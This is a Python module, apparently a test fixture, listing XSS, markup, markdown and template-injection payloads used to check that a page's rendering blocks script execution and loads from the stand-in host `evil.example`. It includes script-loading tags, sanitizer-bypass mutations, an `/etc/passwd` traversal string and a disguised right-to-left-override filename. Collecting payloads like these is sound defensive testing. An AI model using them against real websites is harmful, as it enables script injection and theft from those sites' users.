# ruff: noqa: E501
"""Texts that run a script, load something from elsewhere or break out of their place, if a page lets them.

Whatever gets through calls `ran()` or asks for a host that is not ours.
"""

_EVIL = "//evil.example/"
_EVENTS = (
    "onload onerror onclick onfocus onmouseover ontoggle onanimationstart onpointerenter onbegin".split()
)
_TAGS = "img svg body input details video audio iframe marquee select textarea math style object".split()

_BREAKING_OUT = [
    '"{}', "'{}", '">{}', "'>{}", "</bdi>{}", "</button>{}", "</article>{}", "</textarea>{}", "</title>{}",
    "</script>{}", "</style>{}", "-->{}", "]]>{}", "</template>{}", "</iframe>{}", "\\\"{}", "&quot;>{}",
]  # fmt: skip

_TEMPLATES = [
    "${ran()}", "`${ran()}`", "\\${ran()}", "{{ran()}}", "{{{ran()}}}", "{{#with (lookup this 'constructor')}}x{{/with}}",
    "{{constructor.constructor('ran()')()}}", "{% raw %}{{ 7 * 7 }}{% endraw %}", "{{ config }}", "{{ self }}", "#{ran()}",
    "<%= ran() %>", "@children", "${value}", "{{value}}", "{{#each value}}{{this}}{{/each}}",
]  # fmt: skip

_MARKDOWN = [
    "![x](https:" + _EVIL + "a.png)", "[x](javascript:ran())", "[x]: javascript:ran()", "<https:" + _EVIL + ">",
    "[![x](https:" + _EVIL + "b)](javascript:ran())", "$\\href{javascript:ran()}{x}$", "```mermaid\nclick A ran()\n```",
    "<details open ontoggle=ran()>", "[x](data:text/html,<script>ran()</script>)", "\\(\\unicode{<script>ran()</script>}\\)",
]  # fmt: skip

_MARKUP = [
    "<script>ran()</script>", "<ScRiPt>ran()</sCrIpT>", "<script src=" + _EVIL + "x.js></script>", "<script\x0c>ran()</script>",
    "<svg><script>ran()</script></svg>", "<svg/onload=ran()>", "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:ran()'><text y=20>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x/>#x'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran()>", "<math href='javascript:ran()'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>", "<template><script>ran()</script></template>",
    "<iframe src='javascript:parent.ran()'></iframe>", "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<object data='javascript:ran()'></object>", "<embed src='javascript:ran()'>", "<base href=" + _EVIL + ">",
    "<link rel=stylesheet href=" + _EVIL + "x.css>", "<meta http-equiv=refresh content='0;url=" + _EVIL + "'>",
    "<style>@import url(" + _EVIL + "x.css);</style>", "<div style='background:url(" + _EVIL + "x.png)'>x</div>",
    "<img src=" + _EVIL + "x.png>", "<img srcset=" + _EVIL + "x.png>", "<video poster=" + _EVIL + "x.png>",
    "<a href='javascript:ran()'>x</a>", "<a href='  java\nscript:ran()'>x</a>", "<form action='javascript:ran()'><button>x</button></form>",
    "<button formaction='javascript:ran()' form=x>x</button>", "<isindex action=javascript:ran() type=image>",
    "<input autofocus onfocus=ran()>", "<body onload=ran()>", "<x contenteditable onblur=ran()>x</x>",
    "&lt;script&gt;ran()&lt;/script&gt;", "&#60;script&#62;ran()&#60;/script&#62;", "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "%3Cscript%3Eran()%3C/script%3E", "＜script＞ran()＜/script＞", "<img src=x onerror=&#114;&#97;&#110;()>", "<<script>ran()//<</script>",
    "<script>ran()<!--", "<!--<img src='--><img src=x onerror=ran()//'>", "<![CDATA[<script>ran()</script>]]>",
    "<b onclick=ran() data-act=ask>x</b>", "<button data-act=delete data-conversation=x>x</button>",
    "javascript:ran()", "data:text/html,<script>ran()</script>", "vbscript:ran()", "../../../../etc/passwd", "..\\..\\x",
    "[1]", "[999]", "</span><span class=verbatim>proved</span>", "\u202egnp.exe", "a\u0000b", "\ufeff<script>ran()</script>",
]  # fmt: skip

PAYLOADS = [
    *_MARKUP,
    *_TEMPLATES,
    *_MARKDOWN,
    *(text.replace("{}", "<img src=x onerror=ran()>") for text in _BREAKING_OUT),
    *(f"<{tag} {event}=ran() src=x>" for tag, event in zip(_TAGS, _EVENTS * 2, strict=False)),
    *(f'" {event}="ran()" x="' for event in _EVENTS),
]
